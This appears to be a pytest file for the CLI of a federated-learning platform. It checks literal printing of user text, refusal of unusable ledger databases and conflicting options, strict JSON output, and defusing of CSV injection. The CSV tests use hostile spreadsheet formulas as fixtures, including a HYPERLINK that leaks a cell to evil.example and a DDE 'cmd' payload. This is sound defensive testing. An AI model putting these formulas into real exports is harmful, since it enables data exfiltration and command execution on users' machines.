"""Input an attacker or a careless user would give the CLI: one clear line, nothing started.

User text (paths, run and site names, remote errors) is printed as it is, never read as rich
markup or emoji codes; the ledger is checked before anything starts (writable, ours or
empty, never another application's database); options that cannot all be honoured are
refused up front; JSON output is valid JSON. No test here starts Flower: ``no_start`` fails
any that would.
"""

from __future__ import annotations

import csv
import io
import json
import os
import sqlite3
import time
import warnings
from pathlib import Path
from typing import Any

import numpy as np
import pytest

from flplatform.app.config import RunConfig
from flplatform.cli import history as history_command
from flplatform.cli import simulate as simulate_command
from flplatform.core.errors import ConfigError
from storage import LedgerRepository, UpdateInput
from tests.helpers.cli import invoke, one_error_line

# Closes a tag that was never opened (rich raised MarkupError), opens a style (rich ate it),
# and is an emoji code (rich drew a face).
MARKUP = "[/x] [bold] :smile:"

TINY_APP = """
[project]
name = "tiny-app"
version = "0.1.0"

[tool.flwr.app]
publisher = "test"

[tool.flwr.app.components]
serverapp = "tiny_server:app"
clientapp = "tiny_client:app"

[tool.flwr.app.config]
num-server-rounds = 3
"""


@pytest.fixture
def no_start(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """Every command's way into Flower, made to record the attempt and fail."""
    started: list[str] = []

    def refuse(*args: Any, **kwargs: Any) -> Any:
        started.append("flower")
        raise RuntimeError("a Flower process was started")

    monkeypatch.setattr("flplatform.launch.flower.start_app", refuse)
    monkeypatch.setattr("flplatform.launch.simulation.start_app", refuse)  # run_app's
    monkeypatch.setattr("flplatform.launch.flower.start_superlink", refuse)
    return started


@pytest.fixture
def tiny_app(tmp_path: Path) -> Path:
    directory = tmp_path / "tiny_app"
    directory.mkdir()
    (directory / "pyproject.toml").write_text(TINY_APP)
    for module in ("tiny_server.py", "tiny_client.py"):
        (directory / module).write_text("app = None\n")
    return directory


def make_ledger(url: str, *, name: str = "run", site: str = "london", reason: str = "") -> None:
    """One finished run of one site and two rounds; round 2's update rejected for ``reason``."""
    t0 = time.time()
    with LedgerRepository.open(url) as repo:
        run_id = repo.create_run(
            name=name, strategy="local-sgd", seed=0, config={}, num_rounds_planned=2
        )
        repo.add_site(run_id, name=site, node_id=1, num_examples=10)
        for rnd in (1, 2):
            repo.record_round(
                run_id,
                round=rnd,
                model_version=rnd,
                started_at=t0 + rnd,
                finished_at=t0 + rnd + 0.5,
                metrics={"accuracy": 0.5},
                train_loss=0.5,
                updates=[
                    UpdateInput(
                        site=site,
                        dispatched_round=rnd,
                        version_trained_on=rnd - 1,
                        staleness=0,
                        bytes_up=100,
                        bytes_down=100,
                        status="rejected" if rnd == 2 else "applied",
                        reason=(reason or "bad") if rnd == 2 else None,
                        dispatched_at=t0 + rnd,
                        arrived_at=t0 + rnd + 0.2,
                        num_examples=10,
                        compute_seconds=0.1,
                    )
                ],
            )
        repo.finish_run(run_id, status="finished", final_metrics={"accuracy": 0.5})


def snapshot(directory: Path) -> dict[str, bytes]:
    """Every file under ``directory`` with its bytes: what 'left unchanged' compares."""
    return {str(p.relative_to(directory)): p.read_bytes() for p in directory.rglob("*")}


# ================================================================ user text printed literally
@pytest.mark.usefixtures("flplatform_home")
def test_markup_in_run_site_names_and_reasons_is_printed_literally(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(history_command.console, "width", 400)  # no cell wrapped
    url = f"sqlite:///{tmp_path / 'ledger.db'}"
    make_ledger(url, name=MARKUP, site="[red]lon", reason=f"missing arrays: {MARKUP}")
    for command in (["runs"], ["rounds", "1"], ["sites", "1"], ["updates", "1"]):
        result = invoke(["history", *command, "--db", url])
        assert result.exit_code == 0, result.output
        # One such name broke `history runs` for the whole ledger (MarkupError).
        assert MARKUP in result.output, command
        if command[0] in ("sites", "updates"):
            assert "[red]lon" in result.output, command
    rounds = invoke(["history", "rounds", "1", "--db", url]).output
    assert f"missing arrays: {MARKUP}" in rounds  # the "why not applied" column
    rows = json.loads(invoke(["history", "runs", "--db", url, "--format", "json"]).output)
    assert rows[0]["name"] == MARKUP


@pytest.mark.usefixtures("flplatform_home")
def test_markup_in_a_db_path_is_printed_literally(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(history_command.console, "width", 400)  # the title on one line
    folder = tmp_path / MARKUP  # "[" / "x] [bold] :smile:": a "/" in a path is a separator
    folder.mkdir(parents=True)
    url = f"sqlite:///{folder / 'ledger.db'}"
    make_ledger(url)
    result = invoke(["history", "runs", "--db", url])
    assert result.exit_code == 0, result.output
    # As the user wrote it: neither read as markup nor percent-encoded ("%5B/x%5D").
    assert f"Runs in sqlite:///{folder}/ledger.db" in result.output

    missing = f"sqlite:///{tmp_path / 'nowhere' / MARKUP / 'ledger.db'}"
    result = invoke(["history", "runs", "--db", missing])
    assert result.exit_code == 4
    assert f"no ledger at {tmp_path / 'nowhere' / MARKUP / 'ledger.db'}" in one_error_line(
        result.output
    )


@pytest.mark.usefixtures("flplatform_home")
def test_markup_in_a_dataset_path_is_printed_literally(tmp_path: Path) -> None:
    missing = tmp_path / MARKUP / "data.npz"
    result = invoke(["simulate", "--dataset", str(missing)])
    assert result.exit_code == 3
    assert f"error: {missing}: no such file" in one_error_line(result.output)


def test_a_simulation_prints_a_dataset_path_ledger_and_reasons_literally(
    tmp_path: Path, flplatform_home: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The whole `simulate` output, with the run the ServerApp would record faked in."""
    folder = tmp_path / MARKUP  # "[" / "x] [bold] :smile:": a "/" in a path is a separator
    folder.mkdir(parents=True)
    data = folder / "data.npz"
    rng = np.random.default_rng(0)
    np.savez(data, x=rng.normal(size=(40, 4)).astype(np.float32), y=np.arange(40) % 2)
    ledger = folder / "ledger.db"
    reason = f"missing arrays: {MARKUP}"

    def recorded_run(config: RunConfig, *, on_progress: Any = None, **_: Any) -> Any:
        make_ledger(config.db, name=MARKUP, site="london", reason=reason)
        with LedgerRepository.open(config.db) as repo:
            record = repo.list_runs(limit=1)[0]
            done = repo.list_rounds(record.id)
            on_progress(record, done, repo.list_updates(record.id, round=2))
        return record

    monkeypatch.setattr(simulate_command, "run_simulation", recorded_run)
    monkeypatch.setattr(history_command.console, "width", 400)  # no reason wrapped
    result = invoke(
        ["simulate", "--dataset", str(data), "--db", f"sqlite:///{ledger}", "--sites", "2"]
    )
    assert result.exit_code == 0, result.output
    assert f"on {data} (dirichlet" in result.output  # the "Simulating ..." line
    assert f"ledger: {ledger}" in result.output
    assert reason in result.output
    assert "😄" not in result.output
    # Quoted, so that the suggested command works when pasted into a shell.
    assert f"--db 'sqlite:///{ledger}'" in result.output


@pytest.mark.usefixtures("flplatform_home")
def test_bracketed_text_is_kept_in_error_messages(tmp_path: Path) -> None:
    url = f"sqlite:///{tmp_path / 'ledger.db'}"
    make_ledger(url)
    result = invoke(["history", "rounds", "[b]x[/b] :smile:", "--db", url])
    assert result.exit_code == 2
    assert one_error_line(result.output) == (
        "error: RUN must be a run id (an integer) or 'latest', got '[b]x[/b] :smile:'"
    )
    result = invoke(["simulate", "--sites", "a,[b]b[/b],a"])
    assert result.exit_code == 2
    assert "[b]b[/b]" in one_error_line(result.output)


# ================================================================ the ledger, checked up front
@pytest.mark.usefixtures("flplatform_home")
def test_a_read_only_ledger_is_refused_before_anything_starts(
    tmp_path: Path, tiny_app: Path, no_start: list[str]
) -> None:
    path = tmp_path / "ledger.db"
    make_ledger(f"sqlite:///{path}")
    before = path.read_bytes()
    # SQLite's read-only mode: read-only for root too, unlike a file's permissions.
    read_only = f"sqlite:///file:{path}?mode=ro&uri=true"
    for args in (
        ["simulate", "--db", read_only],
        ["demo", "cross-silo", "--db", read_only],
        ["run", str(tiny_app), "--db", read_only],
    ):
        started = time.monotonic()
        result = invoke(args)
        assert result.exit_code == 4, result.output
        assert one_error_line(result.output) == (
            f"error: cannot record runs in {read_only}: attempt to write a readonly database; "
            "make it writable or pass --db with a SQLAlchemy URL such as sqlite:///runs.db"
        ), args
        assert time.monotonic() - started < 30  # not after Flower's start-up (~90 s)
    assert no_start == []
    assert invoke(["history", "runs", "--db", read_only]).exit_code == 0  # reading is fine
    assert path.read_bytes() == before


@pytest.mark.parametrize("query", ["mode=ro", "mode=ro&uri=true"])
def test_history_reads_a_read_only_url_without_a_warning(tmp_path: Path, query: str) -> None:
    """``?mode=ro`` alone (or as a shell leaves a URL cut at its unquoted "&") made SQLAlchemy
    print a raw SAWarning and open the file read-write; with ``uri=true`` it read an empty
    file it had made beside the ledger, named "ledger.db?mode=ro"."""
    path = tmp_path / "ledger.db"
    make_ledger(f"sqlite:///{path}", name="read-only")
    before = path.read_bytes()
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        result = invoke(["history", "runs", "--db", f"sqlite:///{path}?{query}", "-f", "json"])
    assert result.exit_code == 0, result.output
    assert [run["name"] for run in json.loads(result.stdout)] == ["read-only"]
    assert [str(w.message) for w in caught] == []
    assert result.stderr == ""
    assert path.read_bytes() == before
    assert {p.name for p in tmp_path.iterdir()} <= {"ledger.db", "ledger.db-wal", "ledger.db-shm"}


@pytest.mark.skipif(os.geteuid() == 0, reason="root writes read-only files and directories")
@pytest.mark.usefixtures("flplatform_home")
def test_a_ledger_file_or_directory_without_write_permission_is_refused(
    tmp_path: Path, no_start: list[str]
) -> None:
    locked_file = tmp_path / "file" / "ledger.db"
    locked_dir = tmp_path / "dir" / "ledger.db"
    for path in (locked_file, locked_dir):
        path.parent.mkdir()
        make_ledger(f"sqlite:///{path}")
    locked_file.chmod(0o444)
    locked_dir.parent.chmod(0o555)
    try:
        result = invoke(["simulate", "--db", f"sqlite:///{locked_file}"])
        assert result.exit_code == 4
        assert f"the file {locked_file} is read-only" in one_error_line(result.output)
        result = invoke(["simulate", "--db", f"sqlite:///{locked_dir}"])
        assert result.exit_code == 4
        assert f"directory {locked_dir.parent} is not writable" in one_error_line(result.output)
    finally:
        locked_dir.parent.chmod(0o755)
        locked_file.chmod(0o644)
    assert no_start == []


def foreign_database(path: Path) -> None:
    """Another application's SQLite file, in SQLite's default (rollback-journal) mode."""
    with sqlite3.connect(path) as connection:
        connection.execute("CREATE TABLE customers (id INTEGER PRIMARY KEY, name TEXT)")
        connection.execute("CREATE TABLE orders (id INTEGER PRIMARY KEY, total REAL)")
        connection.execute("INSERT INTO customers (name) VALUES ('Ada')")
    connection.close()


@pytest.mark.usefixtures("flplatform_home")
def test_another_applications_database_is_refused_and_left_unchanged(
    tmp_path: Path, tiny_app: Path, no_start: list[str]
) -> None:
    folder = tmp_path / "app"
    folder.mkdir()
    path = folder / "app.db"
    foreign_database(path)
    before = snapshot(folder)
    url = f"sqlite:///{path}"
    expected = (
        f"error: database '{url}' is not a flplatform ledger: it holds another application's "
        "tables (customers, orders), and was left unchanged; pass --db with a SQLAlchemy URL "
        "such as sqlite:///runs.db (a new file or an empty database)"
    )
    for args in (
        ["history", "runs", "--db", url],
        ["history", "sites", "latest", "--db", url],
        ["simulate", "--db", url],
        ["demo", "cross-silo", "--db", url],
        ["run", str(tiny_app), "--db", url],
    ):
        result = invoke(args)
        assert result.exit_code == 4, result.output
        assert one_error_line(result.output) == expected, args
        # Not migrated, not switched to WAL, no journal left beside it: byte for byte.
        assert snapshot(folder) == before, args
    assert no_start == []


@pytest.mark.usefixtures("flplatform_home")
def test_history_does_not_create_a_missing_or_empty_ledger(
    tmp_path: Path, flplatform_home: Path
) -> None:
    missing = tmp_path / "typo.db"
    result = invoke(["history", "runs", "--db", f"sqlite:///{missing}"])
    assert result.exit_code == 4
    assert one_error_line(result.output).startswith(
        f"error: no ledger at {missing}: the file does not exist"
    )
    assert not missing.exists()

    result = invoke(["history", "runs"])  # the default ledger, before any run
    assert result.exit_code == 4
    assert f"no ledger at {flplatform_home / 'ledger.db'}" in one_error_line(result.output)
    assert list(flplatform_home.iterdir()) == []

    empty = tmp_path / "empty.db"
    empty.touch()
    result = invoke(["history", "rounds", "latest", "--db", f"sqlite:///{empty}"])
    assert result.exit_code == 4
    assert "the database is empty" in one_error_line(result.output)
    assert empty.read_bytes() == b""


def test_an_empty_db_option_is_refused(
    flplatform_home: Path, tiny_app: Path, no_start: list[str]
) -> None:
    for args in (
        ["simulate", "--db", ""],
        ["demo", "cross-silo", "--db", ""],
        ["run", str(tiny_app), "--db", ""],
        ["history", "runs", "--db", ""],
        ["simulate", "--db", "   "],
    ):
        result = invoke(args)
        assert result.exit_code == 4, args
        assert "empty database URL" in one_error_line(result.output), args
    assert no_start == []
    assert not (flplatform_home / "ledger.db").exists()  # not taken for the default ledger


# ================================================================ options that cannot all hold
@pytest.mark.parametrize(
    ("args", "k", "sites"),
    [
        (["--sync", "k-sync", "--k", "9"], 9, 4),
        (["--sync", "k-async", "--k", "3", "--sites", "2"], 3, 2),
        (["--sync", "k-async", "--k", "3", "--sites", "a,b"], 3, 2),
    ],
)
def test_k_beyond_the_sites_is_refused(
    flplatform_home: Path, no_start: list[str], args: list[str], k: int, sites: int
) -> None:
    result = invoke(["simulate", *args])
    assert result.exit_code == 2
    assert f"error: k {k} is more than the {sites} sites" in one_error_line(result.output)
    assert no_start == []
    assert not (flplatform_home / "ledger.db").exists()


def test_k_beyond_the_sites_counts_only_where_k_counts_sites() -> None:
    # The batch modes count any K updates (a site may send several): any K can be met.
    for sync in ("k-batch-sync", "k-batch-async", "buffered"):
        assert RunConfig.from_mapping({"sync": sync, "k": 9}).k == 9
    # FetchSGD's k is coordinates per round, not updates.
    assert RunConfig.from_mapping({"strategy": "fetchsgd", "k": 9}).k == 9
    with pytest.raises(ConfigError, match="k 5 is more than the 4 sites"):
        RunConfig.from_mapping({"sync": "k-sync", "k": 5})  # the ServerApp refuses it too


def test_k_beyond_the_sites_of_an_app_run_is_refused(
    flplatform_home: Path, tiny_app: Path, no_start: list[str]
) -> None:
    result = invoke(["run", str(tiny_app), "--sync", "k-sync", "--k", "5", "--sites", "4"])
    assert result.exit_code == 2
    assert "k 5 is more than the 4 sites" in one_error_line(result.output)
    assert no_start == [] and not (flplatform_home / "ledger.db").exists()


@pytest.mark.parametrize(
    ("args", "expected"),
    [
        (["--max-rounds", "0"], "max-rounds must be an integer >= 1, got 0"),
        (
            ["--panels", "stragglers,bogus"],
            "unknown panel 'bogus'; allowed: stragglers, delayed, compression",
        ),
        (["--panels", " , "], "choose at least one panel: stragglers, delayed, compression"),
        (["--panels", "[b]x[/b]", "--max-rounds", "-2"], "2 problems: unknown panel '[b]x[/b]'"),
    ],
)
def test_the_demo_refuses_what_it_cannot_run_before_anything_starts(
    flplatform_home: Path, no_start: list[str], args: list[str], expected: str
) -> None:
    started = time.monotonic()
    result = invoke(["demo", "cross-silo", *args])
    assert result.exit_code == 2
    assert expected in one_error_line(result.output)
    assert time.monotonic() - started < 30  # it used to run 2.5 minutes first
    assert no_start == [] and not (flplatform_home / "ledger.db").exists()


# ================================================================ JSON output
def strict_json(text: str) -> Any:
    """Parse as a strict JSON parser would: Infinity and NaN are not JSON."""

    def refuse(constant: str) -> Any:
        raise ValueError(f"not JSON: {constant}")

    return json.loads(text, parse_constant=refuse)


def test_non_finite_numbers_in_the_ledger_are_null_in_json_and_empty_in_csv(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(history_command.console, "width", 400)  # every column
    url = f"sqlite:///{tmp_path / 'ledger.db'}"
    make_ledger(url)
    with LedgerRepository.open(url) as repo, repo._engine.begin() as connection:
        # Each is a finite float64, as a site may report; their sum overflows to inf.
        connection.exec_driver_sql("UPDATE updates SET compute_seconds = 1e308, train_loss = 1e308")
        # Ledgers written before metrics were checked hold non-finite ones.
        connection.exec_driver_sql(
            """UPDATE rounds SET metrics = '{"accuracy": Infinity, "loss": NaN}'"""
        )
        connection.exec_driver_sql("""UPDATE runs SET final_metrics = '{"accuracy": -Infinity}'""")

    sites = strict_json(invoke(["history", "sites", "1", "--db", url, "-f", "json"]).output)
    assert (sites[0]["compute_seconds"], sites[0]["mean_train_loss"]) == (None, None)
    rounds = strict_json(invoke(["history", "rounds", "1", "--db", url, "-f", "json"]).output)
    assert rounds[0]["metrics"] == {"accuracy": None, "loss": None}
    runs = strict_json(invoke(["history", "runs", "--db", url, "-f", "json"]).output)
    assert runs[0]["final_metrics"] == {"accuracy": None}
    assert runs[0]["last_metrics"] == {"accuracy": None, "loss": None}
    updates = strict_json(invoke(["history", "updates", "1", "--db", url, "-f", "json"]).output)
    assert [u["compute_seconds"] for u in updates] == [1e308, 1e308]  # finite: kept

    # CSV: an empty cell, as for a missing value; nested values are strict JSON too.
    out = invoke(["history", "sites", "1", "--db", url, "-f", "csv"]).output
    (site,) = csv.DictReader(io.StringIO(out))
    assert (site["compute_seconds"], site["mean_train_loss"]) == ("", "")
    out = invoke(["history", "rounds", "1", "--db", url, "-f", "csv"]).output
    assert strict_json(next(csv.DictReader(io.StringIO(out)))["metrics"]) == {
        "accuracy": None,
        "loss": None,
    }
    # The table says what is there.
    table = invoke(["history", "sites", "1", "--db", url])
    assert table.exit_code == 0 and "inf" in table.output


# ================================================================ CSV output
# What a spreadsheet runs when it opens a CSV: a formula (=, +, -, @), also after a tab or a
# carriage return (OWASP, "CSV Injection").
HOSTILE_NAME = "=1+2"
HOSTILE_SITE = "@SUM(A1:A9)"
HOSTILE_REASON = '=HYPERLINK("http://evil.example/?leak="&A1,"details")'
HOSTILE_NOTE = "-2+3+cmd|' /C calc'!A0"


def csv_rows(*args: str) -> list[dict[str, str]]:
    result = invoke(["history", *args, "--format", "csv"])
    assert result.exit_code == 0, result.output
    return list(csv.DictReader(io.StringIO(result.stdout, newline="")))


def test_csv_cells_a_spreadsheet_would_run_are_text_and_numbers_stay_numbers(
    tmp_path: Path,
) -> None:
    url = f"sqlite:///{tmp_path / 'ledger.db'}"
    make_ledger(url, name=HOSTILE_NAME, site=HOSTILE_SITE, reason=HOSTILE_REASON)
    with LedgerRepository.open(url) as repo, repo._engine.begin() as connection:
        # A run's note (why it failed) holds a site's error; seeds and losses may be negative.
        connection.exec_driver_sql("UPDATE runs SET error = ?, seed = -3", (HOSTILE_NOTE,))
        connection.exec_driver_sql("UPDATE updates SET train_loss = -0.25")

    [run] = csv_rows("runs", "--db", url)
    assert (run["name"], run["error"]) == ("'" + HOSTILE_NAME, "'" + HOSTILE_NOTE)
    assert run["seed"] == "-3"
    [compared] = csv_rows("compare", "1", "--db", url)
    assert compared["name"] == "'" + HOSTILE_NAME
    [site] = csv_rows("sites", "1", "--db", url)
    assert site["name"] == "'" + HOSTILE_SITE
    updates = csv_rows("updates", "1", "--db", url)
    assert [u["site"] for u in updates] == ["'" + HOSTILE_SITE] * 2
    assert [u["reason"] for u in updates] == ["", "'" + HOSTILE_REASON]
    assert [u["train_loss"] for u in updates] == ["-0.25", "-0.25"]  # a number, as it was


def test_csv_text_starting_with_a_tab_or_carriage_return_is_defused() -> None:
    from flplatform.cli.render import to_csv

    records = [
        {"text": text, "number": number}
        for text, number in (("\t=1+2", -1), ("\r@SUM(A1)", -0.5), ("-1", 0), ("+1", 2))
    ]
    rows = list(csv.DictReader(io.StringIO(to_csv(records), newline="")))
    assert [row["text"] for row in rows] == ["'\t=1+2", "'\r@SUM(A1)", "'-1", "'+1"]
    assert [row["number"] for row in rows] == ["-1", "-0.5", "0", "2"]


# ================================================================ Flower's home and the app
def test_a_flower_home_inside_the_app_directory_is_refused(
    tiny_app: Path, monkeypatch: pytest.MonkeyPatch, no_start: list[str]
) -> None:
    inside = tiny_app / ".flplatform"
    monkeypatch.setenv("FLPLATFORM_HOME", str(inside))
    monkeypatch.setenv("FLWR_HOME", str(inside / "flwr"))
    result = invoke(["run", str(tiny_app)])
    assert result.exit_code == 2
    assert one_error_line(result.output) == (
        f"error: FLPLATFORM_HOME {inside} (which holds Flower's home, FLWR_HOME, and the run "
        f"logs) lies inside the app directory {tiny_app}, which flwr run packs into the app: "
        "set FLPLATFORM_HOME to a directory outside it (unset, it is .flplatform in the "
        "current directory)"
    )
    # The default home is ./.flplatform: running from the app directory puts it inside.
    monkeypatch.delenv("FLPLATFORM_HOME")
    monkeypatch.chdir(tiny_app)
    result = invoke(["run", "."])
    assert result.exit_code == 2
    assert "lies inside the app directory" in one_error_line(result.output)
    assert no_start == [] and not inside.exists()
